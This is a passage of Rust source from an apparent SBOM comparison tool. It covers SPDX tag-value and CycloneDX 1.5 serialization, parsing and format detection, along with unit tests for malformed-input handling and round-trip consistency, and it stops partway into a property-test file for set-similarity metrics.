        assert!(out.fatal.is_none());
        assert_eq!(out.sbom.len(), 1);
        assert_eq!(out.stats.spec_version.as_deref(), Some("1.0"));
        assert_eq!(
            out.sbom.diagnostics()[0].class,
            DiagClass::UnsupportedSyntax
        );
        let tv = "SPDXVersion: SPDX-1.2\nPackageName: a\n";
        let out = ingest_bytes(tv.as_bytes());
        assert!(out.fatal.is_none());
        assert_eq!(out.sbom.len(), 1);
        assert_eq!(
            out.sbom.diagnostics()[0].class,
            DiagClass::UnsupportedSyntax
        );
    }

    #[test]
    fn fatal_classes_for_malformed_inputs() {
        for (bytes, class) in [
            (&b""[..], DiagClass::TruncatedInput),
            (&b"   \n "[..], DiagClass::TruncatedInput),
            (
                &b"{\"bomFormat\": \"CycloneDX\""[..],
                DiagClass::TruncatedInput,
            ),
            (&b"{\"a\": }"[..], DiagClass::MalformedFile),
            (&b"{} trailing"[..], DiagClass::MalformedFile),
            (&b"{\"a\": 1}"[..], DiagClass::MalformedFile),
            (&b"{\"a\": \"\xff\xfe\"}"[..], DiagClass::EncodingError),
            (
                &b"SPDXVersion: SPDX-2.3\n\xff\xfe\n"[..],
                DiagClass::EncodingError,
            ),
            (&b"no colon line"[..], DiagClass::MalformedFile),
            (
                &b"SPDXVersion: SPDX-2.3\nPackageSourceInfo: <text>open\n"[..],
                DiagClass::TruncatedInput,
            ),
        ] {
            let out = ingest_bytes(bytes);
            let fatal = out.fatal.unwrap_or_else(|| {
                panic!("expected fatal for {:?}", String::from_utf8_lossy(bytes))
            });
            assert_eq!(fatal.class, class, "{:?}", String::from_utf8_lossy(bytes));
            assert_eq!(fatal.severity, Severity::Error);
            assert_eq!(out.sbom.len(), 0);
        }
    }

    #[test]
    fn progress_reports_components_and_bytes() {
        let s = sample("syft");
        let text = SbomFormat::CycloneDx.serialize(&s);
        let mut calls = Vec::new();
        let out = ingest_reader(text.as_bytes(), IngestOptions::default(), &mut |st| {
            calls.push((st.components, st.bytes_read))
        });
        assert!(out.fatal.is_none());
        assert_eq!(calls.len(), 2);
        assert_eq!(calls[0].0, 1);
        assert_eq!(calls[1].0, 2);
        assert!(calls[0].1 <= calls[1].1);
    }

    #[test]
    fn dependency_edges_are_counted() {
        let s = sample("syft");
        let cdx = SbomFormat::CycloneDx.serialize(&s);
        let out = ingest_bytes(cdx.as_bytes());
        assert_eq!(out.stats.dependency_edges, 2);
        let spdx = SbomFormat::Spdx.serialize(&s);
        let out = ingest_bytes(spdx.as_bytes());
        assert_eq!(out.stats.dependency_edges, 2);
        let tv = SbomFormat::SpdxTagValue.serialize(&s);
        let out = ingest_bytes(tv.as_bytes());
        assert_eq!(out.stats.dependency_edges, 2);
    }

    #[test]
    fn injected_fault_surfaces_as_injected_fatal() {
        let plan = FaultPlan {
            seed: 7,
            rules: vec![
                FaultRule::new(fault::sites::INGEST_DOC, 1_000_000, FaultAction::Error)
                    .for_key("ingest-fault-test"),
            ],
        };
        let guard = fault::install(plan);
        let opts = IngestOptions {
            chunk_size: DEFAULT_CHUNK,
            fault_key: "ingest-fault-test".to_string(),
        };
        let text = SbomFormat::CycloneDx.serialize(&sample("syft"));
        let out = ingest_reader(text.as_bytes(), opts, &mut |_| {});
        drop(guard);
        let fatal = out.fatal.expect("fault should surface");
        assert!(fault::is_injected(&fatal.message), "{}", fatal.message);
        assert_eq!(fatal.class, DiagClass::IoError);
    }

    #[test]
    fn format_labels_are_stable() {
        let labels: Vec<&str> = DocFormat::ALL.iter().map(|f| f.label()).collect();
        assert_eq!(labels, vec!["cyclonedx", "spdx-json", "spdx-tag-value"]);
    }
}

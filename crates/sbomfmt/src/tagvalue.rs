//! SPDX 2.3 tag-value serialization and parsing.
//!
//! The tag-value format is the original SPDX wire form: one `Tag: value`
//! pair per line, with `<text>...</text>` spans for multi-line values and
//! `#` comment lines. Real-world tools (e.g. `reuse`, older `spdx-sbom-
//! generator` builds) still emit it, so external ingestion must accept it.
//!
//! Parsing is line-oriented through [`Builder`] so the streaming ingester
//! can feed lines from a bounded [`LineReader`] without materializing the
//! document, while [`from_str`] feeds the same builder from a `&str` —
//! both paths share [`RawSpdxPackage::into_component`] with the JSON
//! parser, so the three SPDX surfaces cannot drift apart.
//!
//! [`LineReader`]: sbomdiff_textformats::stream::LineReader
//! [`RawSpdxPackage::into_component`]: crate::spdx::RawSpdxPackage

use crate::spdx::{creator_tool, subject_from_doc_name, RawSpdxPackage};
use sbomdiff_textformats::TextError;
use sbomdiff_types::Sbom;

/// Serializes an SBOM as SPDX 2.3 tag-value text (deterministic: the
/// `Created` timestamp is emitted only when the SBOM carries one — never
/// sampled from the wall clock — and document identity derives from tool +
/// subject, matching the JSON serializer).
pub fn to_string(sbom: &Sbom) -> String {
    let mut out = String::new();
    let tool = &sbom.meta.tool_name;
    let version = &sbom.meta.tool_version;
    let subject = &sbom.meta.subject;
    out.push_str("SPDXVersion: SPDX-2.3\n");
    out.push_str("DataLicense: CC0-1.0\n");
    out.push_str("SPDXID: SPDXRef-DOCUMENT\n");
    out.push_str(&format!("DocumentName: {subject}-{tool}\n"));
    out.push_str(&format!(
        "DocumentNamespace: https://sbomdiff.example/spdx/{tool}/{subject}\n"
    ));
    out.push_str(&format!("Creator: Tool: {tool}-{version}\n"));
    if let Some(ts) = &sbom.meta.timestamp {
        out.push_str(&format!("Created: {ts}\n"));
    }
    for (i, c) in sbom.components().iter().enumerate() {
        out.push('\n');
        out.push_str(&format!("PackageName: {}\n", c.name));
        out.push_str(&format!("SPDXID: SPDXRef-Package-{i}\n"));
        if let Some(v) = &c.version {
            out.push_str(&format!("PackageVersion: {v}\n"));
        }
        out.push_str("PackageDownloadLocation: NOASSERTION\n");
        if let Some(s) = &c.supplier {
            out.push_str(&format!("PackageSupplier: Organization: {s}\n"));
        }
        let mut source_info = format!("ecosystem: {}", c.ecosystem.label());
        if !c.found_in.is_empty() {
            source_info.push_str(&format!("; found_in: {}", c.found_in));
        }
        if let Some(scope) = c.scope {
            source_info.push_str(&format!("; scope: {}", scope.label()));
        }
        out.push_str(&format!("PackageSourceInfo: <text>{source_info}</text>\n"));
        if let Some(p) = &c.purl {
            out.push_str(&format!("ExternalRef: PACKAGE-MANAGER purl {p}\n"));
        }
        if let Some(cpe) = &c.cpe {
            out.push_str(&format!("ExternalRef: SECURITY cpe23Type {cpe}\n"));
        }
    }
    out.push('\n');
    for i in 0..sbom.len() {
        out.push_str(&format!(
            "Relationship: SPDXRef-DOCUMENT DESCRIBES SPDXRef-Package-{i}\n"
        ));
    }
    out
}

/// Incremental tag-value parser: feed lines with [`Builder::line`], then
/// call [`Builder::finish`]. Never panics; malformed lines yield
/// [`TextError`] with the 1-based line number.
#[derive(Debug, Default)]
pub(crate) struct Builder {
    lineno: usize,
    spdx_version: Option<String>,
    doc_name: String,
    created: Option<String>,
    creators: Vec<String>,
    packages: Vec<RawSpdxPackage>,
    current: Option<RawSpdxPackage>,
    relationships: u64,
    /// Open `<text>` span: the tag awaiting its value plus the lines
    /// accumulated so far.
    pending_text: Option<(String, String)>,
}

impl Builder {
    pub(crate) fn new() -> Self {
        Builder::default()
    }

    /// The `SPDXVersion` value seen so far, if any.
    pub(crate) fn spdx_version(&self) -> Option<&str> {
        self.spdx_version.as_deref()
    }

    /// Number of `Relationship` lines seen so far.
    pub(crate) fn relationships(&self) -> u64 {
        self.relationships
    }

    /// Consumes one line (without its terminator).
    ///
    /// # Errors
    ///
    /// Returns [`TextError`] for a non-blank, non-comment line with no
    /// `:` separator, or a malformed `ExternalRef` value.
    pub(crate) fn line(&mut self, text: &str) -> Result<(), TextError> {
        self.lineno += 1;
        // Inside a <text> span everything is literal, including blank and
        // `#`-prefixed lines.
        if let Some((tag, mut acc)) = self.pending_text.take() {
            if let Some(rest) = text.strip_suffix("</text>") {
                if !acc.is_empty() || !rest.is_empty() {
                    if !acc.is_empty() {
                        acc.push('\n');
                    }
                    acc.push_str(rest);
                }
                self.apply(&tag, &acc)?;
            } else {
                if !acc.is_empty() {
                    acc.push('\n');
                }
                acc.push_str(text);
                self.pending_text = Some((tag, acc));
            }
            return Ok(());
        }
        let trimmed = text.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            return Ok(());
        }
        let Some((tag, value)) = trimmed.split_once(':') else {
            return Err(TextError::new(
                self.lineno,
                format!("expected `Tag: value`, got {trimmed:?}"),
            ));
        };
        let tag = tag.trim();
        let value = value.trim_start();
        if let Some(body) = value.strip_prefix("<text>") {
            if let Some(inner) = body.strip_suffix("</text>") {
                self.apply(tag, inner)?;
            } else {
                self.pending_text = Some((tag.to_string(), body.to_string()));
            }
            return Ok(());
        }
        self.apply(tag, value)
    }

    fn apply(&mut self, tag: &str, value: &str) -> Result<(), TextError> {
        match tag {
            // First occurrence wins for document-level singletons.
            "SPDXVersion" if self.spdx_version.is_none() => {
                self.spdx_version = Some(value.to_string());
            }
            "DocumentName" if self.doc_name.is_empty() => {
                self.doc_name = value.to_string();
            }
            "Created" if self.created.is_none() => {
                self.created = Some(value.to_string());
            }
            "Creator" => self.creators.push(value.to_string()),
            "PackageName" => {
                let prev = self.current.replace(RawSpdxPackage {
                    name: Some(value.to_string()),
                    ..RawSpdxPackage::default()
                });
                self.packages.extend(prev);
            }
            "PackageVersion" => {
                if let Some(pkg) = &mut self.current {
                    pkg.version = Some(value.to_string());
                }
            }
            "PackageSourceInfo" => {
                if let Some(pkg) = &mut self.current {
                    pkg.source_info = Some(value.to_string());
                }
            }
            "PackageSupplier" => {
                if let Some(pkg) = &mut self.current {
                    pkg.supplier = Some(value.to_string());
                }
            }
            "ExternalRef" => {
                let mut parts = value.splitn(3, char::is_whitespace);
                let (Some(_category), Some(rtype), Some(locator)) =
                    (parts.next(), parts.next(), parts.next())
                else {
                    return Err(TextError::new(
                        self.lineno,
                        format!("malformed ExternalRef {value:?}"),
                    ));
                };
                if let Some(pkg) = &mut self.current {
                    pkg.refs
                        .push((rtype.to_string(), Some(locator.trim().to_string())));
                }
            }
            "Relationship" => self.relationships += 1,
            // DataLicense, SPDXID, DocumentNamespace,
            // PackageDownloadLocation, licensing tags, file sections, ...
            _ => {}
        }
        Ok(())
    }

    /// Finishes parsing and builds the SBOM.
    ///
    /// # Errors
    ///
    /// Returns [`TextError`] when no `SPDXVersion: SPDX-*` tag was seen
    /// (not an SPDX tag-value document) or a `<text>` span is unterminated.
    pub(crate) fn finish(mut self) -> Result<Sbom, TextError> {
        if self.pending_text.is_some() {
            return Err(TextError::new(self.lineno, "unterminated <text> value"));
        }
        if !self
            .spdx_version
            .as_deref()
            .is_some_and(|v| v.starts_with("SPDX-"))
        {
            return Err(TextError::new(0, "not an SPDX tag-value document"));
        }
        // Same creator semantics as the JSON parser's creators[0]: prefer
        // the first `Tool: ` creator, else the first creator of any kind.
        let creator = self
            .creators
            .iter()
            .find(|c| c.starts_with("Tool: "))
            .or_else(|| self.creators.first())
            .map(String::as_str)
            .unwrap_or("");
        let (tool_name, tool_version) = creator_tool(creator);
        let subject = subject_from_doc_name(&self.doc_name, &tool_name);
        let mut sbom = Sbom::new(tool_name, tool_version).with_subject(subject);
        sbom.meta.timestamp = self.created.take();
        self.packages.extend(self.current.take());
        for raw in self.packages {
            if let Some(c) = raw.into_component() {
                sbom.push(c);
            }
        }
        Ok(sbom)
    }
}

/// Parses an SPDX tag-value document.
///
/// # Errors
///
/// Returns [`TextError`] on malformed lines or a non-SPDX document.
pub fn from_str(text: &str) -> Result<Sbom, TextError> {
    let mut b = Builder::new();
    for line in text.lines() {
        b.line(line)?;
    }
    b.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_types::{Component, Cpe, DepScope, Ecosystem, Purl};

    fn sample() -> Sbom {
        let mut sbom = Sbom::new("trivy", "0.43.0")
            .with_subject("demo-repo")
            .with_timestamp("2024-06-24T00:00:00Z");
        sbom.push(
            Component::new(Ecosystem::Rust, "serde", Some("1.0.188".into()))
                .with_found_in("Cargo.lock")
                .with_scope(DepScope::Runtime)
                .with_purl(Purl::for_package(Ecosystem::Rust, "serde", Some("1.0.188")))
                .with_cpe(Cpe::for_package(Ecosystem::Rust, "serde", "1.0.188"))
                .with_supplier("crates.io:serde"),
        );
        sbom.push(Component::new(
            Ecosystem::Java,
            "com.google.guava:guava",
            Some("32.1.2".into()),
        ));
        sbom
    }

    #[test]
    fn roundtrip() {
        let text = to_string(&sample());
        let back = from_str(&text).unwrap();
        assert_eq!(back.meta.tool_name, "trivy");
        assert_eq!(back.meta.tool_version, "0.43.0");
        assert_eq!(back.meta.subject, "demo-repo");
        assert_eq!(back.len(), 2);
        assert_eq!(back.components()[0].name, "serde");
        assert_eq!(back.components()[0].found_in, "Cargo.lock");
        assert_eq!(back.components()[0].scope, Some(DepScope::Runtime));
        assert!(back.components()[0].purl.is_some());
        assert!(back.components()[0].cpe.is_some());
        assert_eq!(
            back.components()[0].supplier.as_deref(),
            Some("crates.io:serde")
        );
        assert_eq!(back.components()[1].ecosystem, Ecosystem::Java);
        assert_eq!(back.components()[1].supplier, None);
        assert_eq!(back.meta.timestamp.as_deref(), Some("2024-06-24T00:00:00Z"));
    }

    #[test]
    fn roundtrip_matches_json_parse() {
        // The tag-value and JSON forms of the same SBOM must re-ingest to
        // the same component set (differential property across surfaces).
        let s = sample();
        let via_tv = from_str(&to_string(&s)).unwrap();
        let via_json = crate::spdx::from_str(&crate::spdx::to_string_pretty(&s)).unwrap();
        assert_eq!(via_tv.components(), via_json.components());
        assert_eq!(via_tv.meta.tool_name, via_json.meta.tool_name);
        assert_eq!(via_tv.meta.subject, via_json.meta.subject);
        assert_eq!(via_tv.meta.timestamp, via_json.meta.timestamp);
    }

    #[test]
    fn deterministic() {
        assert_eq!(to_string(&sample()), to_string(&sample()));
    }

    #[test]
    fn tolerates_comments_and_unknown_tags() {
        let text = "# comment\nSPDXVersion: SPDX-2.2\n\nLicenseListVersion: 3.19\nPackageName: left-pad\nPackageVersion: 1.3.0\n";
        let sbom = from_str(text).unwrap();
        assert_eq!(sbom.len(), 1);
        assert_eq!(sbom.components()[0].name, "left-pad");
        assert_eq!(sbom.components()[0].version.as_deref(), Some("1.3.0"));
        assert_eq!(sbom.meta.tool_name, "unknown");
    }

    #[test]
    fn multiline_text_span() {
        let text = "SPDXVersion: SPDX-2.3\nPackageName: a\nPackageSourceInfo: <text>ecosystem: npm;\nfound_in: package.json</text>\n";
        let sbom = from_str(text).unwrap();
        assert_eq!(sbom.components()[0].ecosystem, Ecosystem::JavaScript);
        assert_eq!(sbom.components()[0].found_in, "package.json");
    }

    #[test]
    fn missing_colon_is_an_error_with_line() {
        let err = from_str("SPDXVersion: SPDX-2.3\nnot a tag line\n").unwrap_err();
        assert_eq!(err.line(), 2);
    }

    #[test]
    fn malformed_external_ref_is_an_error() {
        let text = "SPDXVersion: SPDX-2.3\nPackageName: a\nExternalRef: purl-only\n";
        assert!(from_str(text).is_err());
    }

    #[test]
    fn unterminated_text_is_an_error() {
        assert!(from_str("SPDXVersion: SPDX-2.3\nPackageSourceInfo: <text>open\n").is_err());
    }

    #[test]
    fn rejects_non_spdx() {
        assert!(from_str("{\"bomFormat\": \"CycloneDX\"}").is_err());
        assert!(from_str("").is_err());
    }
}

//! SBOM document formats: CycloneDX 1.5 JSON and SPDX 2.3 JSON.
//!
//! The studied tools emit one of these two formats (§III-B); the
//! differential engine extracts dependencies back out of them. Both
//! serializers are deterministic (no timestamps or random serials — document
//! identity derives from tool + subject) so experiment outputs are
//! reproducible byte-for-byte.
//!
//! §V-F notes current SBOM formats lack a dependency-scope field; we carry
//! scope through a vendor property (CycloneDX `properties`, SPDX
//! `sourceInfo`) exactly because the standard schema cannot express it —
//! mirroring the paper's best-practice discussion.

pub mod cyclonedx;
pub mod ingest;
pub mod spdx;
pub mod tagvalue;
pub mod vex;

pub use vex::{VexDocument, VexStatement, VexStatus};

use sbomdiff_textformats::TextError;
use sbomdiff_types::{DepScope, Sbom};

/// Maps the wire label of a dependency scope back to [`DepScope`]
/// (`None` for unknown labels — unparseable scopes degrade to absent).
pub(crate) fn scope_from_label(label: &str) -> Option<DepScope> {
    match label {
        "runtime" => Some(DepScope::Runtime),
        "dev" => Some(DepScope::Dev),
        "optional" => Some(DepScope::Optional),
        _ => None,
    }
}

/// The SBOM interchange formats supported by the studied tools.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SbomFormat {
    /// OWASP CycloneDX 1.5 (JSON).
    CycloneDx,
    /// ISO/IEC 5962 SPDX 2.3 (JSON).
    Spdx,
    /// SPDX 2.3 tag-value (the `SPDXVersion: ...` line format).
    SpdxTagValue,
}

impl SbomFormat {
    /// Serializes an SBOM in this format.
    pub fn serialize(self, sbom: &Sbom) -> String {
        match self {
            SbomFormat::CycloneDx => cyclonedx::to_string_pretty(sbom),
            SbomFormat::Spdx => spdx::to_string_pretty(sbom),
            SbomFormat::SpdxTagValue => tagvalue::to_string(sbom),
        }
    }

    /// Parses a document in this format back into an SBOM.
    ///
    /// # Errors
    ///
    /// Returns [`TextError`] when the document is malformed or not of this
    /// format.
    pub fn parse(self, text: &str) -> Result<Sbom, TextError> {
        match self {
            SbomFormat::CycloneDx => cyclonedx::from_str(text),
            SbomFormat::Spdx => spdx::from_str(text),
            SbomFormat::SpdxTagValue => tagvalue::from_str(text),
        }
    }

    /// Sniffs the format of a document.
    pub fn detect(text: &str) -> Option<SbomFormat> {
        if let Ok(doc) = sbomdiff_textformats::json::parse(text) {
            if doc.get("bomFormat").and_then(|v| v.as_str()) == Some("CycloneDX") {
                return Some(SbomFormat::CycloneDx);
            }
            if doc
                .get("spdxVersion")
                .and_then(|v| v.as_str())
                .is_some_and(|v| v.starts_with("SPDX-"))
            {
                return Some(SbomFormat::Spdx);
            }
            return None;
        }
        if text
            .lines()
            .any(|l| l.trim_start().starts_with("SPDXVersion:"))
        {
            return Some(SbomFormat::SpdxTagValue);
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_types::{Component, Ecosystem};

    fn sample() -> Sbom {
        let mut sbom = Sbom::new("demo-tool", "1.0").with_subject("repo-x");
        sbom.push(Component::new(
            Ecosystem::Python,
            "requests",
            Some("2.31.0".into()),
        ));
        sbom
    }

    #[test]
    fn detect_formats() {
        let s = sample();
        let cdx = SbomFormat::CycloneDx.serialize(&s);
        let spdx = SbomFormat::Spdx.serialize(&s);
        assert_eq!(SbomFormat::detect(&cdx), Some(SbomFormat::CycloneDx));
        assert_eq!(SbomFormat::detect(&spdx), Some(SbomFormat::Spdx));
        assert_eq!(SbomFormat::detect("{}"), None);
        assert_eq!(SbomFormat::detect("not json"), None);
    }

    #[test]
    fn cross_parse_errors() {
        let s = sample();
        let cdx = SbomFormat::CycloneDx.serialize(&s);
        assert!(SbomFormat::Spdx.parse(&cdx).is_err());
    }
}

//! CycloneDX 1.5 JSON serialization and parsing.

use sbomdiff_textformats::{json, TextError, Value};
use sbomdiff_types::{Component, Cpe, Ecosystem, Purl, Sbom};

pub(crate) const PROP_ECOSYSTEM: &str = "sbomdiff:ecosystem";
pub(crate) const PROP_FOUND_IN: &str = "sbomdiff:found_in";
pub(crate) const PROP_DEP_SCOPE: &str = "sbomdiff:dependency_scope";

/// Raw string fields of one CycloneDX component entry, before semantic
/// conversion. Both the in-memory parser below and the streaming ingester
/// materialize through [`RawCdxComponent::into_component`], so the two
/// paths cannot drift apart — the property the round-trip differential
/// suite asserts.
#[derive(Debug, Default)]
pub(crate) struct RawCdxComponent {
    pub(crate) name: Option<String>,
    pub(crate) version: Option<String>,
    pub(crate) purl: Option<String>,
    pub(crate) cpe: Option<String>,
    pub(crate) publisher: Option<String>,
    /// `properties` entries with string name *and* value, document order.
    pub(crate) properties: Vec<(String, String)>,
}

impl RawCdxComponent {
    /// Converts raw fields into a [`Component`] (`None`: no name, entry is
    /// skipped). Field semantics: PURL-derived ecosystem wins over the
    /// ecosystem property; for the other properties the last occurrence
    /// wins; unparseable PURL/CPE/scope values degrade to absent.
    pub(crate) fn into_component(self) -> Option<Component> {
        let name = self.name?;
        let purl = self.purl.and_then(|p| p.parse::<Purl>().ok());
        let cpe = self.cpe.and_then(|c| c.parse::<Cpe>().ok());
        let mut ecosystem = purl
            .as_ref()
            .and_then(|p| p.ptype().parse::<Ecosystem>().ok());
        let mut found_in = String::new();
        let mut scope = None;
        for (pname, pvalue) in &self.properties {
            match pname.as_str() {
                PROP_ECOSYSTEM => ecosystem = ecosystem.or_else(|| pvalue.parse().ok()),
                PROP_FOUND_IN => found_in = pvalue.clone(),
                PROP_DEP_SCOPE => scope = crate::scope_from_label(pvalue),
                _ => {}
            }
        }
        let mut c = Component::new(ecosystem.unwrap_or(Ecosystem::Python), name, self.version)
            .with_found_in(found_in);
        c.purl = purl;
        c.cpe = cpe;
        c.scope = scope;
        c.supplier = self.publisher.filter(|p| !p.is_empty()).map(Into::into);
        Some(c)
    }
}

/// Serializes an SBOM as a CycloneDX 1.5 JSON [`Value`].
pub fn to_value(sbom: &Sbom) -> Value {
    let mut doc = Value::object();
    doc.set("bomFormat", Value::from("CycloneDX"));
    doc.set("specVersion", Value::from("1.5"));
    doc.set(
        "serialNumber",
        Value::from(format!(
            "urn:uuid:{}",
            deterministic_uuid(&sbom.meta.tool_name, &sbom.meta.subject)
        )),
    );
    doc.set("version", Value::from(1i64));

    let mut metadata = Value::object();
    let mut tool = Value::object();
    tool.set("vendor", Value::from("sbomdiff"));
    tool.set("name", Value::from(sbom.meta.tool_name.clone()));
    tool.set("version", Value::from(sbom.meta.tool_version.clone()));
    metadata.set("tools", Value::Array(vec![tool]));
    if let Some(ts) = &sbom.meta.timestamp {
        metadata.set("timestamp", Value::from(ts.clone()));
    }
    if !sbom.meta.subject.is_empty() {
        let mut subject = Value::object();
        subject.set("type", Value::from("application"));
        subject.set("name", Value::from(sbom.meta.subject.clone()));
        metadata.set("component", subject);
    }
    doc.set("metadata", metadata);

    let components: Vec<Value> = sbom
        .components()
        .iter()
        .enumerate()
        .map(|(i, c)| {
            let mut v = component_to_value(c);
            v.set("bom-ref", Value::from(format!("component-{i}")));
            v
        })
        .collect();
    doc.set("components", Value::Array(components));

    // Dependency graph: flat SBOMs relate the subject to every component
    // (the shape real metadata-based tools emit; §II's "hierarchical
    // relationships" need resolution data the tools don't have).
    let mut root_dep = Value::object();
    root_dep.set("ref", Value::from("root"));
    root_dep.set(
        "dependsOn",
        Value::Array(
            (0..sbom.len())
                .map(|i| Value::from(format!("component-{i}")))
                .collect(),
        ),
    );
    doc.set("dependencies", Value::Array(vec![root_dep]));
    doc
}

fn component_to_value(c: &Component) -> Value {
    let mut out = Value::object();
    out.set("type", Value::from("library"));
    out.set("name", Value::from(c.name.as_str()));
    if let Some(v) = &c.version {
        out.set("version", Value::from(v.as_str()));
    }
    if let Some(p) = &c.purl {
        out.set("purl", Value::from(p.to_string()));
    }
    if let Some(cpe) = &c.cpe {
        out.set("cpe", Value::from(cpe.to_string()));
    }
    if let Some(s) = &c.supplier {
        out.set("publisher", Value::from(s.as_str()));
    }
    let mut props = vec![prop(PROP_ECOSYSTEM, c.ecosystem.label())];
    if !c.found_in.is_empty() {
        props.push(prop(PROP_FOUND_IN, &c.found_in));
    }
    if let Some(scope) = c.scope {
        props.push(prop(PROP_DEP_SCOPE, scope.label()));
    }
    out.set("properties", Value::Array(props));
    out
}

fn prop(name: &str, value: &str) -> Value {
    let mut p = Value::object();
    p.set("name", Value::from(name));
    p.set("value", Value::from(value));
    p
}

/// Serializes an SBOM as pretty-printed CycloneDX JSON.
pub fn to_string_pretty(sbom: &Sbom) -> String {
    json::to_string_pretty(&to_value(sbom))
}

/// Parses a CycloneDX JSON document.
///
/// # Errors
///
/// Returns [`TextError`] on malformed JSON or a non-CycloneDX document.
pub fn from_str(text: &str) -> Result<Sbom, TextError> {
    let doc = json::parse(text)?;
    if doc.get("bomFormat").and_then(Value::as_str) != Some("CycloneDX") {
        return Err(TextError::new(0, "not a CycloneDX document"));
    }
    // `tools` is an array of tool objects in CycloneDX 1.4 and an object
    // holding a `components` array in the 1.5 shape; accept both.
    let tool_name = doc
        .pointer("metadata/tools/0/name")
        .or_else(|| doc.pointer("metadata/tools/components/0/name"))
        .and_then(Value::as_str)
        .unwrap_or("unknown")
        .to_string();
    let tool_version = doc
        .pointer("metadata/tools/0/version")
        .or_else(|| doc.pointer("metadata/tools/components/0/version"))
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_string();
    let subject = doc
        .pointer("metadata/component/name")
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_string();
    let mut sbom = Sbom::new(tool_name, tool_version).with_subject(subject);
    sbom.meta.timestamp = doc
        .pointer("metadata/timestamp")
        .and_then(Value::as_str)
        .map(str::to_string);
    if let Some(components) = doc.get("components").and_then(Value::as_array) {
        for comp in components {
            let mut raw = RawCdxComponent {
                name: comp.get("name").and_then(Value::as_str).map(str::to_string),
                version: comp
                    .get("version")
                    .and_then(Value::as_str)
                    .map(str::to_string),
                purl: comp.get("purl").and_then(Value::as_str).map(str::to_string),
                cpe: comp.get("cpe").and_then(Value::as_str).map(str::to_string),
                publisher: comp
                    .get("publisher")
                    .and_then(Value::as_str)
                    .map(str::to_string),
                properties: Vec::new(),
            };
            if let Some(props) = comp.get("properties").and_then(Value::as_array) {
                for p in props {
                    if let (Some(pname), Some(pvalue)) = (
                        p.get("name").and_then(Value::as_str),
                        p.get("value").and_then(Value::as_str),
                    ) {
                        raw.properties.push((pname.to_string(), pvalue.to_string()));
                    }
                }
            }
            if let Some(c) = raw.into_component() {
                sbom.push(c);
            }
        }
    }
    Ok(sbom)
}

/// Deterministic pseudo-UUID from tool and subject (FNV-1a based), so
/// repeated runs produce identical documents.
fn deterministic_uuid(tool: &str, subject: &str) -> String {
    let mut h1: u64 = 0xcbf2_9ce4_8422_2325;
    for b in tool.bytes().chain(subject.bytes()) {
        h1 = (h1 ^ b as u64).wrapping_mul(0x100_0000_01b3);
    }
    let mut h2 = h1.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    h2 ^= h2 >> 29;
    format!(
        "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
        (h1 >> 32) as u32,
        (h1 >> 16) as u16,
        (h1 & 0xfff) as u16,
        (h2 & 0xfff) as u16,
        h2 >> 16 & 0xffff_ffff_ffff
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_types::DepScope;

    fn sample() -> Sbom {
        let mut sbom = Sbom::new("syft", "0.84.1")
            .with_subject("demo-repo")
            .with_timestamp("2024-06-24T00:00:00Z");
        sbom.push(
            Component::new(Ecosystem::Python, "requests", Some("2.31.0".into()))
                .with_found_in("requirements.txt")
                .with_scope(DepScope::Runtime)
                .with_purl(Purl::for_package(
                    Ecosystem::Python,
                    "requests",
                    Some("2.31.0"),
                ))
                .with_cpe(Cpe::for_package(Ecosystem::Python, "requests", "2.31.0"))
                .with_supplier("pypi:requests"),
        );
        sbom.push(Component::new(Ecosystem::Go, "github.com/a/b", None));
        sbom
    }

    #[test]
    fn roundtrip() {
        let original = sample();
        let text = to_string_pretty(&original);
        let back = from_str(&text).unwrap();
        assert_eq!(back.meta.tool_name, "syft");
        assert_eq!(back.meta.subject, "demo-repo");
        assert_eq!(back.len(), 2);
        assert_eq!(back.components()[0].name, "requests");
        assert_eq!(back.components()[0].found_in, "requirements.txt");
        assert_eq!(back.components()[0].scope, Some(DepScope::Runtime));
        assert!(back.components()[0].purl.is_some());
        assert!(back.components()[0].cpe.is_some());
        assert_eq!(
            back.components()[0].supplier.as_deref(),
            Some("pypi:requests")
        );
        assert_eq!(back.components()[1].ecosystem, Ecosystem::Go);
        assert_eq!(back.components()[1].version, None);
        assert_eq!(back.components()[1].supplier, None);
        assert_eq!(back.meta.timestamp.as_deref(), Some("2024-06-24T00:00:00Z"));
    }

    #[test]
    fn serialization_is_deterministic() {
        let a = to_string_pretty(&sample());
        let b = to_string_pretty(&sample());
        assert_eq!(a, b);
    }

    #[test]
    fn document_shape() {
        let text = to_string_pretty(&sample());
        let doc = json::parse(&text).unwrap();
        assert_eq!(
            doc.get("bomFormat").and_then(Value::as_str),
            Some("CycloneDX")
        );
        assert_eq!(doc.get("specVersion").and_then(Value::as_str), Some("1.5"));
        assert!(doc
            .get("serialNumber")
            .and_then(Value::as_str)
            .unwrap()
            .starts_with("urn:uuid:"));
        assert_eq!(
            doc.pointer("components/0/type").and_then(Value::as_str),
            Some("library")
        );
        assert_eq!(
            doc.pointer("components/0/bom-ref").and_then(Value::as_str),
            Some("component-0")
        );
        assert_eq!(
            doc.pointer("dependencies/0/dependsOn/1")
                .and_then(Value::as_str),
            Some("component-1")
        );
    }

    #[test]
    fn rejects_non_cyclonedx() {
        assert!(from_str("{\"spdxVersion\": \"SPDX-2.3\"}").is_err());
        assert!(from_str("broken").is_err());
    }
}

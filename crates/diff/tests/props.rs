//! Property tests for the differential metrics.

use std::collections::BTreeSet;

use proptest::prelude::*;

use sbomdiff_diff::{duplicate_rate, jaccard, Histogram, PrecisionRecall};
use sbomdiff_types::{Component, ComponentKey, Ecosystem, Sbom};

fn key_set_strategy() -> impl Strategy<Value = BTreeSet<ComponentKey>> {
    prop::collection::btree_set(
        ("[a-e]{1,3}", "[0-9]{1,2}").prop_map(|(name, version)| ComponentKey {
            name: name.into(),
            version: version.into(),
        }),
        0..12,
    )
}

proptest! {
    /// Jaccard: bounded, symmetric, 1 on identity, monotone under
    /// intersection containment.
    #[test]
    fn jaccard_axioms(a in key_set_strategy(), b in key_set_strategy()) {
        match jaccard(&a, &b) {
            None => {
                prop_assert!(a.is_empty() && b.is_empty());
            }
            Some(j) => {
                prop_assert!((0.0..=1.0).contains(&j));
